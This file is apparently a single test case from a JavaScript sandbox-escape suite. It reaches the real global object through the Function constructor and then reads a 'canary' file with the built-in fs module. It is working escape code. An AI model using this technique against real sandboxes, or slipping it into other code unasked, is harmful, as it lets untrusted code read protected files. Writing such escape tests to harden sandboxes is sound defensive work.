// Gets the global object as the this of a function made by a getter of another realm.
const realm = Reflect.apply(Reflect.getPrototypeOf(function () {}).constructor, null, ["return this"]);
export default {
  name: "global_by_sloppy_this",
  description: "Gets the global object as the this of a function made by a getter of another realm",
  input: { type: "object" },
  handler: ({ canary }) => realm().process.getBuiltinModule("fs").readFileSync(canary, "utf8"),
};
